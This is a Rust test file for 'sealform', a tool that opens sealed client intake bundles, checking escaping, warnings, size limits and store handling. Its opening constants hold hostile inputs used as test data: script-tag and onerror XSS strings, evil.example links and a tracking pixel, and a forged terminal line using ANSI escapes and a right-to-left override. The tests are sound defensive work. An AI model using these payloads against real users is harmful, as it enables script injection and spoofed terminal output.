const SCRIPT: &str = "<script>alert('x')</script>";
const HOSTILE_DESCRIPTION: &str =
    "[click me](https://evil.example) ![pixel](https://evil.example/p.png)\n\
    # Not a heading <img src=x onerror=alert(1)>\n\
    > not a quote\n\
    - not a list\n\
    1. nor this\n\
    | a | b |\n\
    |---|---|\n\
    <div>raw html</div> &amp; **bold** _em_ ~~struck~~ `code`\n\
    Setext\n\
    ===";
const HOSTILE_ID: &str = "# [x](https://evil.example) | <b>";
const ATTACHMENT: &str = "<b>bold</b>.txt";

/// What a Markdown viewer shows of a summary.
#[derive(Debug)]
struct Rendered {
    /// Each heading's text.
    headings: Vec<String>,
    /// Each top-level list item's text: code spans as their text, hard breaks as line breaks.
    items: Vec<String>,
    /// Everything else that is not text, a paragraph, a list or the bold label of an item: links, images, HTML,
    /// tables, quotes, nested lists, emphasis.
    markup: Vec<String>,
}

/// Renders `markdown` as CommonMark with GitHub's extensions (tables, strikethrough, task lists, footnotes).
fn render_markdown(markdown: &str) -> Rendered {
    use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_GFM;
    let mut rendered = Rendered {
        headings: Vec::new(),
        items: Vec::new(),
        markup: Vec::new(),
    };
    let (mut in_heading, mut in_item) = (false, false);
    for event in Parser::new_ext(markdown, options) {
        let text = match &event {
            Event::Text(text) | Event::Code(text) => Some(text.to_string()),
            Event::HardBreak => Some("\n".to_owned()),
            _ => None,
        };
        match (event, text) {
            (_, Some(text)) if in_heading => {
                rendered
                    .headings
                    .last_mut()
                    .expect("a heading")
                    .push_str(&text);
            }
            (_, Some(text)) if in_item => {
                rendered.items.last_mut().expect("an item").push_str(&text)
            }
            (Event::Start(Tag::Heading { .. }), _) => {
                in_heading = true;
                rendered.headings.push(String::new());
            }
            (Event::End(TagEnd::Heading(_)), _) => in_heading = false,
            (Event::Start(Tag::Item), _) if !in_item => {
                in_item = true;
                rendered.items.push(String::new());
            }
            (Event::End(TagEnd::Item), _) => in_item = false,
            (
                Event::Start(Tag::Paragraph | Tag::Strong | Tag::List(None))
                | Event::End(TagEnd::Paragraph | TagEnd::Strong | TagEnd::List(false)),
                _,
            ) => {}
            (Event::Text(_), _) => {}
            (other, _) => rendered.markup.push(format!("{other:?}")),
        }
    }
    rendered
}

/// What a hostile client writes to forge a line on the firm's terminal (erase the line, back to its start, print a
/// success) and to disguise a name (a right-to-left override), then ring.
const FORGED: &str =
    "\u{1b}[2K\rOpened inbox/other.bundle into opened/2026-11-22_00000000 \u{202E}fdp.exe\u{7}\u{9b}";

/// Fails unless neither output holds a control character (but line breaks) or a text-direction character.
#[track_caller]
fn assert_nothing_raw(run: &Run) {
    let raw = |c: char| {
        (c.is_control() && c != '\n')
            || matches!(
                c,
                '\u{61C}' | '\u{200E}' | '\u{200F}' | '\u{2028}' | '\u{2029}'
            )
            || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
    };
    for (name, text) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
        assert!(
            !text.contains(raw),
            "{name} holds a raw control or direction character:\n{run:#?}"
        );
    }
}

#[test]
fn text_the_client_controls_never_reaches_the_terminal_raw() {
    let dir = tempfile::tempdir().expect("temp dir");
    let key = key_file(dir.path(), "firm", 0o600);
    let mut answers = valid_answers();
    answers.insert(FORGED, Answer::Text(FORGED.into()));
    answers.insert("description", Answer::Text(FORGED.into()));
    let bundle = dir.path().join(format!("client{}.bundle", &FORGED[..7]));
    seal_answers(
        &bundle,
        &[identity("firm").recipient().clone()],
        "id-forged",
        answers,
        &[(FORGED, b"x")],
    );

    // Printed: the warning about the unknown question, the "Opened" line and the JSON.
    let run = sealform(&[
        "open".as_ref(),
        "--key".as_ref(),
        key.as_os_str(),
        bundle.as_os_str(),
    ])
    .expect_code(0)
    .expect_stderr(&["\\u{1b}[2K\\u{d}Opened inbox", "\\u{202e}fdp.exe"]);
    assert_nothing_raw(&run);
    let json: Value = serde_json::from_str(&run.stdout).expect("still JSON");
    assert_eq!(json["answers"]["description"], FORGED);

    // Saved: the same, and the note that the attachment was renamed.
    let out = dir.path().join("opened");
    let run = open_into(&key, &out, &bundle).expect_code(0);
    assert_nothing_raw(&run);
    assert!(run.stderr.contains("Note:"), "{run:#?}");

    // Not sealed at all: a bundle whose JSON has a member named to forge a line, shown by inspect and open.
    let (_, valid) = vector("valid");
    let mut document: Value = serde_json::from_slice(&valid).expect("JSON");
    document[FORGED] = Value::from(1);
    let unsealed = dir.path().join("unsealed.bundle");
    fs::write(&unsealed, serde_json::to_vec(&document).expect("JSON")).expect("write");
    for command in [
        vec!["inspect".as_ref(), unsealed.as_os_str()],
        vec!["inspect".as_ref(), "--json".as_ref(), unsealed.as_os_str()],
        vec![
            "open".as_ref(),
            "--key".as_ref(),
            key.as_os_str(),
            unsealed.as_os_str(),
        ],
    ] {
        let run = sealform(&command).expect_code(1);
        assert_nothing_raw(&run);
        assert!(run.stderr.contains("\\u{1b}[2K"), "{run:#?}");
    }
}

#[test]
fn answers_that_break_their_form_are_saved_with_one_warning() {
    let dir = tempfile::tempdir().expect("temp dir");
    let key = key_file(dir.path(), "firm", 0o600);
    let mut answers = valid_answers();
    answers.insert("email", Answer::Text("not an email address".into()));
    answers.insert("practice_area", Answer::Text("astrology".into()));
    let bundle = dir.path().join("client.bundle");
    seal_answers(
        &bundle,
        &[identity("firm").recipient().clone()],
        "id-bad",
        answers,
        &[],
    );
    let out = dir.path().join("opened");
    let run = open_into(&key, &out, &bundle).expect_code(0);
    // One warning for the bundle: a line naming it and its receipt, then each problem on an indented line.
    let receipt = ReceiptId::of(&fs::read(&bundle).expect("read")).short();
    let warning: Vec<&str> = run
        .stderr
        .lines()
        .skip_while(|line| !line.starts_with("warning:"))
        .take_while(|line| line.starts_with("warning:") || line.starts_with("  - "))
        .collect();
    assert_eq!(run.stderr.matches("warning:").count(), 1, "{}", run.stderr);
    assert_eq!(
        warning.first().copied(),
        Some(
            format!(
                "warning: {} (receipt {receipt}): the answers break 2 rules of their form:",
                bundle.display()
            )
            .as_str()
        ),
        "{}",
        run.stderr
    );
    assert_eq!(warning.len(), 3, "{}", run.stderr);
    assert!(
        warning[1..]
            .iter()
            .any(|line| line.starts_with("  - email: ")),
        "{}",
        run.stderr
    );
    assert!(
        warning[1..]
            .iter()
            .any(|line| line.starts_with("  - practice_area: ")),
        "{}",
        run.stderr
    );

    let folder = out.join(receipt_folder(&fs::read(&bundle).expect("read")));
    let summary = fs::read_to_string(folder.join("summary.md")).expect("read");
    assert!(
        summary.contains("**Answers checked again:** 2 problems"),
        "{summary}"
    );
    assert!(
        summary.contains("The answers break 2 rules of their form.\n\n- email: "),
        "{summary}"
    );
    assert!(summary.contains("\n- practice_area: "), "{summary}");
    let html = fs::read_to_string(folder.join("summary.html")).expect("read");
    assert!(html.contains("class=\"problems\""), "{html}");
    assert!(html.contains("<li>email: "), "{html}");
}

#[test]
fn a_form_sealform_does_not_know_is_named_and_can_be_given() {
    let dir = tempfile::tempdir().expect("temp dir");
    let key = key_file(dir.path(), "firm", 0o600);
    let form_path = core_data().join("schemas/all-kinds.json");
    let form_bytes = fs::read(&form_path).expect("read form");
    let template = Template::from_json(&form_bytes).expect("a form");
    let digest = Sha256Digest::of(&form_bytes);
    let bundle = dir.path().join("client.bundle");
    seal_to_form(
        &bundle,
        &[identity("firm").recipient().clone()],
        template.schema(),
        digest,
        "id-custom",
        Answers::default(),
        &[],
    );
    let open = |schema: Option<&std::path::Path>| {
        let mut args = vec!["open".as_ref(), "--key".as_ref(), key.as_os_str()];
        if let Some(schema) = schema {
            args.extend(["--schema".as_ref(), schema.as_os_str()]);
        }
        args.push(bundle.as_os_str());
        sealform(&args).expect_code(0)
    };
    open(None).expect_stderr(&[&format!(
        "schema {digest} not available; answers not re-validated (give it with --schema)"
    )]);
    let run = open(Some(&form_path));
    assert!(!run.stderr.contains("not available"), "{}", run.stderr);
    assert!(
        run.stderr.contains(" of their form:\n  - "),
        "{}",
        run.stderr
    );

    let not_a_form = dir.path().join("form.json");
    fs::write(&not_a_form, "{}").expect("write");
    sealform(&[
        "open".as_ref(),
        "--key".as_ref(),
        key.as_os_str(),
        "--schema".as_ref(),
        not_a_form.as_os_str(),
        bundle.as_os_str(),
    ])
    .expect_code(2)
    .expect_stderr(&["--schema", "form.json"]);
}

#[test]
fn inspect_json_lists_every_part() {
    let dir = tempfile::tempdir().expect("temp dir");
    let file = vector_file(dir.path(), "valid");
    let broken = dir.path().join("broken.bundle");
    fs::write(&broken, "{").expect("write");
    let run = sealform(&[
        "inspect".as_ref(),
        "--json".as_ref(),
        file.as_os_str(),
        broken.as_os_str(),
    ])
    .expect_code(1);
    let json: Value = serde_json::from_str(&run.stdout).expect("one JSON document");
    let receipt = header_field(&vector("valid").0, "receipt");
    assert_eq!(json[0]["receipt_id"], receipt.as_str());
    assert_eq!(json[0]["format_version"], 1);
    assert_eq!(json[0]["attachments"], 2);
    assert_eq!(json[0]["parts"][2]["part"], "attachment 2");
    assert_eq!(
        json[0]["parts"][2]["sealed_for"][1],
        identity("backup").kid().as_str()
    );
    assert_eq!(json[1]["file"], broken.display().to_string());
    assert!(json[1]["error"].is_string());
}

#[test]
fn again_replaces_a_receipt_folder() {
    let dir = tempfile::tempdir().expect("temp dir");
    let key = key_file(dir.path(), "firm", 0o600);
    let bundle = dir.path().join("client.bundle");
    seal_sample(
        &bundle,
        &[identity("firm").recipient().clone()],
        "id-again",
        &[],
    );
    let out = dir.path().join("opened");
    let args = |again: bool| {
        let mut args = vec![
            "open".as_ref(),
            "--key".as_ref(),
            key.as_os_str(),
            "--out".as_ref(),
            out.as_os_str(),
        ];
        if again {
            args.push("--again".as_ref());
        }
        args.push(bundle.as_os_str());
        args
    };
    sealform(&args(false)).expect_code(0);
    let folder = out.join(receipt_folder(&fs::read(&bundle).expect("read")));
    fs::remove_file(folder.join("summary.md")).expect("remove");
    sealform(&args(false))
        .expect_code(0)
        .expect_stderr(&["already opened", "--again"]);
    assert!(!folder.join("summary.md").exists());
    sealform(&args(true)).expect_code(0);
    assert!(folder.join("summary.md").exists());
    assert_eq!(receipt_folders_in(&out).len(), 1);
}

#[test]
fn files_larger_than_any_bundle_are_refused_and_the_others_opened() {
    let dir = tempfile::tempdir().expect("temp dir");
    let key = key_file(dir.path(), "firm", 0o600);
    let inbox = dir.path().join("inbox");
    fs::create_dir(&inbox).expect("mkdir");
    let good = inbox.join("a-good.bundle");
    seal_sample(
        &good,
        &[identity("firm").recipient().clone()],
        "id-good",
        &[],
    );
    // 40 MB, more than the built-in form's limits allow (25 MiB of attachments: 36,197,718 bytes); sparse, so
    // it costs no disk.
    let huge = inbox.join("b-huge.bundle");
    fs::File::create(&huge)
        .and_then(|file| file.set_len(40_000_000))
        .expect("sparse file");
    let too_large = "b-huge.bundle is 40,000,000 bytes, more than the largest bundle";
    let open = |extra: &[&std::ffi::OsStr], stdin: Option<&[u8]>| {
        let mut args: Vec<&std::ffi::OsStr> =
            vec!["open".as_ref(), "--key".as_ref(), key.as_os_str()];
        args.extend_from_slice(extra);
        sealform_with(&args, &[], stdin)
    };

    let run = open(&[inbox.as_os_str()], None)
        .expect_code(1)
        .expect_stderr(&[too_large, "36,197,718 bytes", "--max-bundle-bytes"]);
    let json: Value = serde_json::from_str(&run.stdout).expect("the good one printed");
    assert_eq!(json["submission_id"], "id-good");

    // A form with larger limits raises it: the file is then read, and found not to be a bundle.
    let mut form: Value = serde_json::from_str(LEGAL_INTAKE_TEMPLATE).expect("JSON");
    form["limits"]["max_total_attachment_bytes"] = Value::from(64 * 1024 * 1024);
    let form_path = dir.path().join("form.json");
    fs::write(&form_path, serde_json::to_vec(&form).expect("JSON")).expect("write");
    let run = open(
        &["--schema".as_ref(), form_path.as_os_str(), huge.as_os_str()],
        None,
    )
    .expect_code(1);
    assert!(!run.stderr.contains("more than the largest"), "{run:#?}");
    assert!(run.stderr.contains("not a well-formed"), "{run:#?}");

    // The flag sets it, for files and for standard input (whose size is not known before reading).
    let bytes = fs::read(&good).expect("read");
    let small = bytes.len() - 1;
    let flag = small.to_string();
    open(
        &[
            "--max-bundle-bytes".as_ref(),
            flag.as_ref(),
            good.as_os_str(),
        ],
        None,
    )
    .expect_code(1)
    .expect_stderr(&["a-good.bundle is", "--max-bundle-bytes"]);
    open(
        &["--max-bundle-bytes".as_ref(), flag.as_ref(), "-".as_ref()],
        Some(&bytes),
    )
    .expect_code(1)
    .expect_stderr(&["standard input is more than", "--max-bundle-bytes"]);
    let exact = bytes.len().to_string();
    open(
        &["--max-bundle-bytes".as_ref(), exact.as_ref(), "-".as_ref()],
        Some(&bytes),
    )
    .expect_code(0);

    // inspect too.
    let run = sealform(&["inspect".as_ref(), good.as_os_str(), huge.as_os_str()])
        .expect_code(1)
        .expect_stderr(&[too_large]);
    assert!(run.stdout.contains("a-good.bundle"), "{run:#?}");
    sealform(&[
        "inspect".as_ref(),
        "--max-bundle-bytes".as_ref(),
        "100000000".as_ref(),
        huge.as_os_str(),
    ])
    .expect_code(1)
    .expect_stderr(&["not a well-formed"]);
}

#[test]
fn help_and_usage_errors_are_pinned() {
    trycmd::TestCases::new()
        .register_bin(
            "sealform",
            std::path::Path::new(env!("CARGO_BIN_EXE_sealform")),
        )
        .env("COLUMNS", "100")
        .case("tests/cmd/*.md");
}

#[test]
fn one_submission_under_two_receipts_is_one_warning() {
    let dir = tempfile::tempdir().unwrap();
    let firm = identity("firm");
    // The submission id is the client's to write: a control character in it must reach the terminal escaped.
    let id = "twice\u{1b}[31m";
    let first = dir.path().join("first.bundle");
    seal_sample(&first, &[firm.recipient().clone()], id, &[]);
    // The same sealing, re-encoded on the way (another receipt), and a third bundle that is another submission.
    let respelt = dir.path().join("respelt.bundle");
    let bytes = fs::read(&first).unwrap();
    fs::write(&respelt, [b" ".as_slice(), &bytes].concat()).unwrap();
    let other = dir.path().join("other.bundle");
    seal_sample(&other, &[firm.recipient().clone()], "another", &[]);
    let key = key_file(dir.path(), "firm", 0o600);
    let out = dir.path().join("opened");
    let run = sealform(&[
        "open".as_ref(),
        "--key".as_ref(),
        key.as_os_str(),
        "--out".as_ref(),
        out.as_os_str(),
        first.as_os_str(),
        respelt.as_os_str(),
        other.as_os_str(),
    ])
    .expect_code(0);
    let warnings: Vec<&str> = run
        .stderr
        .lines()
        .filter(|line| line.contains("same submission"))
        .collect();
    let [warning] = warnings[..] else {
        panic!("one warning expected\n{run:#?}");
    };
    let (short, respelt_short) = (
        ReceiptId::of(&bytes).short(),
        ReceiptId::of(&fs::read(&respelt).unwrap()).short(),
    );
    assert!(warning.starts_with("warning: "), "{warning}");
    assert!(
        warning.contains(&format!(
            "(receipt {respelt_short}) is the same submission as receipt {short}"
        )),
        "{warning}"
    );
    assert!(warning.contains("twice\\u{1b}[31m"), "{warning}");
    assert!(!run.stderr.contains('\u{1b}'), "{run:#?}");
}

/// The sealing's id a receiver stores a bundle with.
fn content_of(bundle: &[u8]) -> ContentId {
    sealform_core::bundle::inspect(bundle)
        .expect("a well-formed bundle")
        .content
}

#[test]
fn open_reads_every_bundle_from_the_receivers_store() {
    let dir = tempfile::tempdir().unwrap();
    let firm = identity("firm");
    let store_path = dir.path().join("sealform.db");
    let mut store = sealform_store::Store::open(&store_path).unwrap();
    let mut receipts = Vec::new();
    for id in ["stored-1", "stored-2"] {
        let path = dir.path().join(format!("{id}.bundle"));
        seal_sample(
            &path,
            &[firm.recipient().clone()],
            id,
            &[("a.txt", b"attached")],
        );
        let bytes = fs::read(&path).unwrap();
        let receipt = ReceiptId::of(&bytes);
        store
            .insert(
                &receipt,
                &content_of(&bytes),
                &bytes,
                time::macros::datetime!(2026-11-23 10:00 UTC),
            )
            .unwrap();
        // A stored bundle's folder is dated by when the receiver got it.
        receipts.push(format!("2026-11-23_{}", receipt.short()));
    }
    drop(store);
    let key = key_file(dir.path(), "firm", 0o600);
    let out = dir.path().join("opened");
    sealform(&[
        "open",
        "--key",
        key.to_str().unwrap(),
        "--store",
        store_path.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ])
    .expect_code(0);
    let mut opened = receipt_folders_in(&out);
    opened.sort();
    receipts.sort();
    assert_eq!(opened, receipts);
    // Opening again skips what is already there; a missing store is a usage error that says which file.
    sealform(&[
        "open",
        "--key",
        key.to_str().unwrap(),
        "--store",
        store_path.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ])
    .expect_code(0);
    sealform(&[
        "open",
        "--key",
        key.to_str().unwrap(),
        "--store",
        dir.path().join("nope.db").to_str().unwrap(),
    ])
    .expect_code(2)
    .expect_stderr(&["nope.db"]);
}

#[test]
fn open_of_a_store_checks_answers_against_the_configs_the_receiver_served() {
    let dir = tempfile::tempdir().expect("temp dir");
    let firm = identity("firm");
    // The firm's own version of the form: its digest is not the built-in template's.
    let config = LEGAL_INTAKE_TEMPLATE.replacen("\"version\": \"", "\"version\": \"firm-", 1);
    assert_ne!(config, LEGAL_INTAKE_TEMPLATE);
    let schema = Template::from_json(config.as_bytes()).expect("config");
    let bundle = dir.path().join("client.bundle");
    seal_to_form(
        &bundle,
        &[firm.recipient().clone()],
        schema.schema(),
        Sha256Digest::of(config.as_bytes()),
        "served-1",
        valid_answers(),
        &[],
    );
    let bytes = fs::read(&bundle).expect("bundle");
    let store_path = dir.path().join("sealform.db");
    let at = time::macros::datetime!(2026-11-23 10:00 UTC);
    let mut store = sealform_store::Store::open(&store_path).expect("store");
    store
        .insert(&ReceiptId::of(&bytes), &content_of(&bytes), &bytes, at)
        .expect("insert");
    let key = key_file(dir.path(), "firm", 0o600);
    let open = || {
        sealform(&[
            "open".as_ref(),
            "--key".as_ref(),
            key.as_os_str(),
            "--store".as_ref(),
            store_path.as_os_str(),
        ])
    };
    open()
        .expect_code(0)
        .expect_stderr(&["not available; answers not re-validated"]);
    store.record_config(config.as_bytes(), at).expect("served");
    drop(store);
    let run = open().expect_code(0);
    assert!(!run.stderr.contains("warning"), "{run:#?}");
}

/// A process's peak resident set so far (`VmHWM` in /proc/PID/status), in bytes; `None` once it has exited.
#[cfg(target_os = "linux")]
fn peak_rss(pid: u32) -> Option<u64> {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = status.lines().find(|line| line.starts_with("VmHWM:"))?;
    let kib: u64 = line.split_whitespace().nth(1)?.parse().ok()?;
    Some(kib * 1024)
}

#[cfg(target_os = "linux")]
#[test]
fn open_store_holds_a_chunk_of_bundles_in_memory_not_the_store() {
    const BUNDLES: usize = 60;
    const BUNDLE_BYTES: usize = 2_000_000;
    let dir = tempfile::tempdir().expect("temp dir");
    let store_path = dir.path().join("sealform.db");
    let mut store = sealform_store::Store::open(&store_path).expect("store");
    // Junk a hostile client could have sent: stored (the receiver checks no more than the shape), never opened.
    let junk: Vec<Vec<u8>> = (0..BUNDLES)
        .map(|i| {
            let mut bytes = format!("{{\"junk\":{i},\"pad\":\"").into_bytes();
            bytes.resize(BUNDLE_BYTES, b'x');
            bytes
        })
        .collect();
    let receipts: Vec<ReceiptId> = junk.iter().map(|bytes| ReceiptId::of(bytes)).collect();
    // No bundle, so no sealing to name: one stand-in id per junk body.
    let contents: Vec<ContentId> = junk
        .iter()
        .map(|bytes| ContentId::from_digest(Sha256Digest::of(bytes)))
        .collect();
    let new: Vec<_> = junk
        .iter()
        .zip(receipts.iter().zip(&contents))
        .map(
            |(bundle, (receipt, content))| sealform_store::NewSubmission {
                receipt,
                content,
                bundle,
                received_at: time::macros::datetime!(2026-11-23 10:00 UTC),
            },
        )
        .collect();
    store.insert_all(&new).expect("insert");
    drop(store);

    let key = key_file(dir.path(), "firm", 0o600);
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_sealform"))
        .args(["open", "--key"])
        .arg(&key)
        .arg("--store")
        .arg(&store_path)
        // Two cores: 8 bundles a chunk, whatever the machine running the test has.
        .env("RAYON_NUM_THREADS", "2")
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("sealform starts");
    let mut peak = 0;
    let status = loop {
        // The peak so far never falls, so the last reading before the process ends is the closest.
        peak = peak.max(peak_rss(child.id()).unwrap_or(0));
        if let Some(status) = child.try_wait().expect("wait") {
            break status;
        }
        std::thread::sleep(std::time::Duration::from_millis(1));
    };
    assert_eq!(status.code(), Some(1), "every junk bundle fails");
    let stored = (BUNDLES * BUNDLE_BYTES) as u64;
    assert!(
        peak < stored / 2,
        "peak RSS {peak} bytes for {stored} bytes stored: the store is read all at once"
    );
}
